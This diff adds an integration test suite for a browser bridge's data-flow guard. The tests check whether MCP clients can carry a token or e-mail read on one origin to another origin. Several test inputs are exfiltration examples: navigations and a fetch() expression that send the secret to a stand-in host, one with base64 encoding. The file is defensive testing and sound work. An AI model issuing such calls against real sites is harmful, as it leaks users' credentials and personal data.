@@ -1,0 +1,269 @@
+import { randomBytes } from 'node:crypto'
+import { readFileSync, writeFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
+import { ENGINES } from '../../helpers/daemon'
+import { FakeExtension, type WireMessage } from '../../helpers/fakeExtension'
+import { connectMcp, rawTextOf, type McpConnection } from '../../helpers/mcpClient'
+import { connectMcpV2 } from '../../helpers/mcpClientV2'
+import { auditEntries, startFixture, type Fixture } from '../toolcall/fixture'
+
+// The data-flow guard on the real call path: a daemon process, MCP clients with their own tokens,
+// and a scripted extension that says which origin each result was read from and which origin a
+// call would act on (tool.sinkOrigin), as the real one does.
+const A = 'http://127.0.0.1:4101'
+const B = 'http://127.0.0.1:4102'
+const TOKEN = 'tok_9fQ2xT7bLm4Rz8WkP3vNq'
+const EMAIL = 'jane.doe@corp.example'
+const PAGE = `- heading "Settings"\n- text: API key ${TOKEN}\n- text: owner ${EMAIL}`
+
+const permissions = {
+  browser: {
+    tools: {
+      browser_snapshot: 'auto',
+      browser_navigate: 'auto',
+      browser_type: 'auto',
+      browser_evaluate: 'auto',
+    },
+  },
+}
+const CLIENTS = ['blocker', 'asker', 'other', 'quiet', 'fixed', 'trusted'] as const
+type ClientName = (typeof CLIENTS)[number]
+
+describe.each(ENGINES)('the data-flow guard on the call path (%s engine)', (engine) => {
+  let fx: Fixture
+  let ext: FakeExtension
+  const tokens = new Map<string, string>()
+  const open: McpConnection[] = []
+
+  const connect = async (name: ClientName) => {
+    const mcp = await connectMcp({ url: fx.daemon.url, secret: tokens.get(name)! }, name)
+    open.push(mcp)
+    return mcp
+  }
+  const call = (mcp: McpConnection, name: string, args: Record<string, unknown>) =>
+    mcp.client.callTool({ name, arguments: args })
+
+  /** The client reads PAGE on A through a snapshot the extension labels with A. */
+  async function readOnA(mcp: McpConnection) {
+    const pending = call(mcp, 'browser_snapshot', {})
+    const dispatch = await ext.nextDispatch()
+    dispatch.succeedFrom([A], PAGE)
+    return pending
+  }
+
+  /** The extension answers the next tool.sinkOrigin: the page the call would act on is `origin`. */
+  async function sinkIs(origin: string): Promise<WireMessage> {
+    const asked = await ext.waitFor('tool.sinkOrigin')
+    ext.answer(asked, { origin })
+    return asked
+  }
+
+  beforeAll(async () => {
+    fx = await startFixture(engine, {
+      permissions,
+      flowGuard: { mode: 'ask', clients: { blocker: 'block', quiet: 'off' } },
+    })
+    const now = new Date().toISOString()
+    const clients = CLIENTS.map((name) => {
+      const token = randomBytes(32).toString('hex')
+      tokens.set(name, token)
+      // `fixed` may read and write A only (bridge client add fixed --reads A --writes A).
+      return {
+        name,
+        token,
+        createdAt: now,
+        ...(name === 'fixed' ? { reads: [A], writes: [A] } : {}),
+        // `trusted` shows approvals itself (bridge client approvals trusted on).
+        ...(name === 'trusted' ? { approvalsInClient: true } : {}),
+      }
+    })
+    writeFileSync(join(fx.configDir, 'clients.json'), JSON.stringify({ clients }), { mode: 0o600 })
+    ext = await FakeExtension.connect(fx.daemon)
+  })
+  afterEach(async () => {
+    for (const mcp of open.splice(0)) await mcp.close()
+  })
+  afterAll(async () => {
+    await ext?.close()
+    await fx?.stop()
+  })
+
+  it('labels a result with the origin it was read from in _meta', async () => {
+    const mcp = await connect('asker')
+    const result = await readOnA(mcp)
+    expect(result._meta).toEqual({ 'bridge/origins': [A] })
+  })
+
+  it('in block mode refuses a navigation that carries the token to another origin, naming both, and runs nothing', async () => {
+    const mcp = await connect('blocker')
+    await readOnA(mcp)
+    const result = await call(mcp, 'browser_navigate', { url: `${B}/collect?k=${TOKEN}` })
+    expect(result.isError).toBe(true)
+    const text = rawTextOf(result)
+    expect(text).toMatch(/^\[flow_blocked\]/)
+    expect(text).toContain(`${A} to ${B}`)
+    expect(text).not.toContain(TOKEN)
+    expect(ext.received.filter((m) => m.method === 'tool.dispatch')).toEqual([])
+    const [entry] = await auditEntries(fx.daemon, 'limit=1')
+    expect(entry).toMatchObject({
+      tool: 'browser_navigate',
+      client: 'blocker',
+      success: false,
+      error: { code: 'flow_blocked' },
+      flowGuard: { sources: [A], sinks: [B], kinds: ['token'], decision: 'blocked' },
+    })
+    expect(JSON.stringify(entry)).not.toContain(TOKEN)
+  })
+
+  it('in block mode refuses typing the address into a page of another origin, as the extension names it', async () => {
+    const mcp = await connect('blocker')
+    await readOnA(mcp)
+    const pending = call(mcp, 'browser_type', { selector: '#to', text: `send to ${EMAIL}` })
+    const asked = await sinkIs(B)
+    expect(asked.params).toMatchObject({ plugin: 'browser', tool: 'browser_type' })
+    const result = await pending
+    expect(rawTextOf(result)).toMatch(/^\[flow_blocked\].*an e-mail address/)
+    expect(rawTextOf(result)).not.toContain(EMAIL)
+  })
+
+  it('lets the same value go back to the origin it came from', async () => {
+    const mcp = await connect('blocker')
+    await readOnA(mcp)
+    const pending = call(mcp, 'browser_navigate', { url: `${A}/settings?k=${TOKEN}` })
+    const dispatch = await ext.nextDispatch()
+    dispatch.succeedFrom([A], 'ok')
+    expect((await pending).isError).toBeFalsy()
+    const [entry] = await auditEntries(fx.daemon, 'limit=1')
+    expect(entry?.flowGuard).toMatchObject({ decision: 'same_origin' })
+  })
+
+  it('lets a value the client never read go anywhere', async () => {
+    const mcp = await connect('blocker')
+    await readOnA(mcp)
+    const pending = call(mcp, 'browser_navigate', { url: `${B}/search?q=tok_Zz8Yy7Xx6Ww5Vv4Uu3Tt2` })
+    const dispatch = await ext.nextDispatch()
+    dispatch.succeed('ok')
+    expect((await pending).isError).toBeFalsy()
+  })
+
+  it('in ask mode puts the flow to the user: deny stops it, allow once runs it once', async () => {
+    const mcp = await connect('asker')
+    await readOnA(mcp)
+    const url = `${B}/?d=${Buffer.from(`key=${TOKEN}`).toString('base64')}`
+    const denied = call(mcp, 'browser_navigate', { url })
+    const question = await ext.waitFor('confirmation.request')
+    expect(question.params).toMatchObject({
+      tool: 'browser_navigate',
+      client: 'asker',
+      flow: { flows: [{ from: A, to: B, kind: 'token', masked: 'tok_*** (25 characters)' }] },
+    })
+    expect(JSON.stringify(question.params!.flow)).not.toContain(TOKEN)
+    ext.approve(question.params!.id as string, 'deny')
+    expect(rawTextOf(await denied)).toMatch(/^\[approval_denied\]/)
+    expect((await auditEntries(fx.daemon, 'limit=1'))[0]?.flowGuard).toMatchObject({ decision: 'denied' })
+
+    const once = call(mcp, 'browser_navigate', { url })
+    const again = await ext.waitFor('confirmation.request')
+    ext.approve(again.params!.id as string, 'allow_once')
+    const dispatch = await ext.nextDispatch()
+    dispatch.succeed('ok')
+    expect((await once).isError).toBeFalsy()
+    expect((await auditEntries(fx.daemon, 'limit=1'))[0]?.flowGuard).toMatchObject({
+      decision: 'allowed_once',
+    })
+
+    // Once was once: the next such call asks again.
+    const third = call(mcp, 'browser_navigate', { url })
+    const asked = await ext.waitFor('confirmation.request')
+    ext.approve(asked.params!.id as string, 'deny')
+    expect((await third).isError).toBe(true)
+  })
+
+  it('always allow A -> B lets later flows through for that client only, and saves it', async () => {
+    const asker = await connect('asker')
+    await readOnA(asker)
+    const first = call(asker, 'browser_evaluate', { expression: `fetch("${B}/x?e=${EMAIL}")` })
+    await sinkIs(A)
+    const question = await ext.waitFor('confirmation.request')
+    expect(question.params!.flow).toMatchObject({
+      flows: [{ from: A, to: B, kind: 'email', masked: 'j***@corp.example' }],
+    })
+    ext.approve(question.params!.id as string, 'allow_always')
+    ;(await ext.nextDispatch()).succeed({ value: null })
+    expect((await first).isError).toBeFalsy()
+
+    const later = call(asker, 'browser_navigate', { url: `${B}/?to=${encodeURIComponent(EMAIL)}` })
+    ;(await ext.nextDispatch()).succeed('ok')
+    expect((await later).isError).toBeFalsy()
+    const config = JSON.parse(readFileSync(join(fx.configDir, 'config.json'), 'utf8')) as {
+      flowGuard: { allowed: Record<string, string[]> }
+    }
+    expect(config.flowGuard.allowed).toEqual({ asker: [`${A} -> ${B}`] })
+
+    // Another client that read the same page is still asked.
+    const other = await connect('other')
+    await readOnA(other)
+    const pending = call(other, 'browser_navigate', { url: `${B}/?to=${encodeURIComponent(EMAIL)}` })
+    const asked = await ext.waitFor('confirmation.request')
+    expect(asked.params!.client).toBe('other')
+    ext.approve(asked.params!.id as string, 'deny')
+    expect((await pending).isError).toBe(true)
+  })
+
+  it('holds a client with fixed origins to them: a read from another is withheld, a write to another refused', async () => {
+    const mcp = await connect('fixed')
+    await readOnA(mcp)
+    const pending = call(mcp, 'browser_snapshot', {})
+    ;(await ext.nextDispatch()).succeedFrom([B], `- text: B's page ${TOKEN}`)
+    const withheld = await pending
+    expect(rawTextOf(withheld)).toMatch(/^\[flow_blocked\].*may read only/)
+    expect(rawTextOf(withheld)).not.toContain(TOKEN)
+
+    const write = await call(mcp, 'browser_navigate', { url: `${B}/plain` })
+    expect(rawTextOf(write)).toMatch(/^\[flow_blocked\].*may write only to http:\/\/127\.0\.0\.1:4101/)
+    const typed = call(mcp, 'browser_type', { selector: '#q', text: 'hello' })
+    await sinkIs(A)
+    ;(await ext.nextDispatch()).succeed('typed')
+    expect((await typed).isError).toBeFalsy()
+  })
+
+  it('asks in the client when the client shows approvals: the flow in words, and always allow A -> B from there', async () => {
+    const asked: { message: string; options: string[] }[] = []
+    const v2 = await connectMcpV2(fx.daemon, tokens.get('trusted')!, {
+      capabilities: { elicitation: { form: {} } },
+      onElicit: (params) => {
+        const schema = params.requestedSchema as { properties: { decision: { oneOf: { const: string }[] } } }
+        asked.push({ message: params.message, options: schema.properties.decision.oneOf.map((o) => o.const) })
+        return Promise.resolve({ action: 'accept', content: { decision: 'allow_always' } })
+      },
+    })
+    try {
+      const read = v2.client.callTool({ name: 'browser_snapshot', arguments: {} })
+      ;(await ext.nextDispatch()).succeedFrom([A], PAGE)
+      await read
+      const pending = v2.client.callTool({ name: 'browser_navigate', arguments: { url: `${B}/?k=${TOKEN}` } })
+      ;(await ext.nextDispatch()).succeed('ok')
+      expect((await pending).isError).toBeFalsy()
+      expect(asked).toHaveLength(1)
+      expect(asked[0]?.message).toContain(`a secret-looking token tok_*** (25 characters) from ${A} to ${B}`)
+      // The side panel had the same question; the client's answer decided it.
+      expect((await ext.waitFor('confirmation.request')).params).toMatchObject({ client: 'trusted' })
+      expect(asked[0]?.options).toEqual(['allow_once', 'allow_always', 'deny'])
+      const config = JSON.parse(readFileSync(join(fx.configDir, 'config.json'), 'utf8')) as {
+        flowGuard: { allowed: Record<string, string[]> }
+      }
+      expect(config.flowGuard.allowed.trusted).toEqual([`${A} -> ${B}`])
+    } finally {
+      await v2.close()
+    }
+  })
+
+  it('does nothing for a client whose setting is off', async () => {
+    const mcp = await connect('quiet')
+    await readOnA(mcp)
+    const pending = call(mcp, 'browser_navigate', { url: `${B}/collect?k=${TOKEN}` })
+    ;(await ext.nextDispatch()).succeed('ok')
+    expect((await pending).isError).toBeFalsy()
+  })
+})
